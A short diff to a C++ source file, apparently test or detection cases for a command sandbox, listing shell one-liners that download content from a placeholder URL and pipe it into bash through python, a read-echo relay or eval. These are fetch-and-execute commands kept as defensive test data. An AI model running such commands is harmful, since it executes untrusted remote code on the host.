@@ -31,7 +31,7 @@ const Limit kLimits[] = {
      "/usr/bin/python3 -c 'import subprocess, urllib.request as u; "
      "subprocess.run([\"bash\"], input=u.urlopen(\"@URL\").read())'"},
     {"a relay that does not exec",
-     "curl -s @URL | (sleep 0.2; while read -r line; do echo \"$line\"; done) | bash"},
+     "curl -s @URL | while read -r line; do echo \"$line\"; done | bash"},
     {"code read by the text of an argument", "curl -s @URL | bash -c 'eval \"$(cat)\"'"},
 };
 
